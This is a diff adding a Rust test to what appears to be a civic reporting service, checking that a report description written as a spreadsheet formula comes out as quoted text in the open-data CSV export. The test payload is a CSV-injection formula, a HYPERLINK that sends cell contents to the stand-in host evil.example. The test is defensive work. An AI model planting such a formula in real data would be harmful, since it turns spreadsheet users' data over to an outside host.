@@ -21,6 +21,7 @@ crate::on_both_engines!(
     control_characters_are_refused_alike_on_both_engines,
     stored_control_characters_never_break_open311_xml,
     oversized_uploads_are_refused_while_streaming,
+    open_data_csv_never_carries_a_formula,
 );
 
 /// One client may submit a few reports and applications without signing
@@ -523,5 +524,46 @@ async fn oversized_uploads_are_refused_while_streaming(engine: Engine) {
         .expect("request");
     let listed: serde_json::Value = inbox.json().await.expect("JSON");
     assert_eq!(listed["items"], serde_json::json!([]), "nothing written");
+    app.stop().await;
+}
+
+/// A description written as a spreadsheet formula reaches the open-data
+/// CSV as text, never as a formula.
+async fn open_data_csv_never_carries_a_formula(engine: Engine) {
+    let Some(app) = TestApp::spawn(engine).await else {
+        return;
+    };
+    app.app
+        .import_boundaries(None, &crate::support::demo_boundaries())
+        .await
+        .expect("boundaries");
+    let key = app.app.issue_api_key("tests", 100).await.expect("key");
+    let formula = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
+    let response = app
+        .client
+        .post(app.url("/open311/v2/requests.json"))
+        .form(&[
+            ("api_key", key.as_str()),
+            ("service_code", "waste"),
+            ("lat", "29.90"),
+            ("long", "31.30"),
+            ("description", formula),
+        ])
+        .send()
+        .await
+        .expect("request");
+    assert_eq!(response.status(), StatusCode::OK);
+    let text = app
+        .client
+        .get(app.url("/open-data/reports.csv"))
+        .send()
+        .await
+        .expect("request")
+        .text()
+        .await
+        .expect("csv");
+    let mut reader = csv::Reader::from_reader(text.as_bytes());
+    let row = reader.records().next().expect("a row").expect("a record");
+    assert_eq!(&row[10], format!("'{formula}"));
     app.stop().await;
 }
